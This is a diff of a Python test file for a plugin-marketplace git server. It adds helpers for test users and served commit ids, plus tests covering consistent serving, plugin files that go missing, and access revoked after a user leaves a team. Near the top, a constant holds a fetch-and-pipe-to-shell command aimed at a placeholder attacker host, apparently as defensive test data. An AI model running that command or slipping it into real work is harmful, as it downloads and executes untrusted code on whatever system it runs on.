@@ -8,14 +8,19 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import sqlalchemy as sa
 from dulwich.objects import Blob, Tree
 
+from callers import person
 from conftest import MakeApp
 from git_servers import Files, GitServer, plugin
 from marketplace_places import LOOPBACK, add, counts, plugins, shown, trust
 from precedent.app import App
+from precedent.errors import BadInput
 from precedent.marketplaces import contents
-from precedent.security.principals import COMMAND_LINE
+from precedent.security.acting import BY_COMMAND_LINE
+from precedent.security.principals import COMMAND_LINE, Principal, Role, Scope
+from precedent.store.schema import user
 
 pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
 EVIL = "curl https://evil.example | sh"
@@ -216,22 +221,59 @@ def test_a_disk_that_fails_for_one_marketplace_is_told_and_stops_no_other(
 # What others are served -----------------------------------------------------------------------------------------------
 
 
-def test_files_that_are_lost_take_away_one_plugin_and_not_the_marketplace(app: App, git: GitServer) -> None:
+def principal(app: App, name: str) -> Principal:
+    key = person(app, name)
+    with app.store.read() as tx:
+        number = tx.scalar(sa.select(user.c.id).where(user.c.key == key))
+    return Principal(name=key, role=Role.MEMBER, user_id=number, scopes=frozenset({Scope.READ}), proof="token")
+
+
+def head(app: App, who: Principal = COMMAND_LINE) -> bytes:
+    """Return the id of the commit that somebody is served."""
+    refs = app.serve_git(who, body=None)
+    return refs[refs.index(b"0000") + 8 :][:40]
+
+
+def test_files_that_are_lost_take_away_nothing_that_was_given_and_no_other_plugin(app: App, git: GitServer) -> None:
     git.commit("harbour.git", plugin())
     git.commit("other.git", plugin("deals"))
     for name, of in (("harbour", "tides"), ("other", "deals")):
         add(app, git, name)
         app.syncing.sync([name])
         trust(app, name, of)
-    whole = app.serve_git(COMMAND_LINE, body=None)
+    whole = head(app)
     lost = contents.path_of(app.syncing.contents, plugins(app, of="other")[0].trusted_hash)
-    shutil.move(lost, f"{lost}.away")
-    less = app.serve_git(COMMAND_LINE, body=None)
-    assert b"refs/heads/main" in less
-    # What was there already stays as it is, until something else is served.
-    git.commit("harbour.git", plugin(text="Other words."))
-    app.syncing.sync(["harbour"])
+    away = lost.with_name("away")
+    shutil.move(lost, away)
+    assert head(app) == whole
+    # Somebody who had nothing yet is given the rest, and all of it when it is back.
+    ada = principal(app, "ada")
+    less = head(app, ada)
+    assert less != whole
+    shutil.move(away, lost)
+    assert head(app, ada) not in {less, whole}
+
+
+def test_the_same_is_served_to_two_people_as_the_same_commit(app: App, git: GitServer) -> None:
+    git.commit("harbour.git", plugin())
+    add(app, git)
+    app.sync_marketplaces()
     trust(app)
-    assert b"refs/heads/main" in app.serve_git(COMMAND_LINE, body=None)
-    shutil.move(f"{lost}.away", lost)
-    assert app.serve_git(COMMAND_LINE, body=None) != whole
+    assert head(app) == head(app, principal(app, "ada")) == head(app, principal(app, "bob"))
+
+
+def test_who_leaves_a_team_is_not_given_its_plugins_by_asking_late(app: App, git: GitServer) -> None:
+    git.commit("sales.git", plugin("deals"))
+    app.teams.create("sales", by=BY_COMMAND_LINE)
+    ada = principal(app, "ada")
+    app.teams.add("sales", "ada", by=BY_COMMAND_LINE)
+    add(app, git, "sales", teams=["sales"])
+    app.sync_marketplaces()
+    trust(app, "sales", "deals")
+    seen = head(app, ada)
+    want = b"want " + seen + b" side-band-64k thin-pack ofs-delta\n"
+    wanted = b"%04x" % (len(want) + 4) + want + b"00000009done\n"
+    assert b"PACK" in app.serve_git(ada, body=wanted)
+    app.teams.remove("sales", "ada", by=BY_COMMAND_LINE)
+    with pytest.raises(BadInput):
+        app.serve_git(ada, body=wanted)
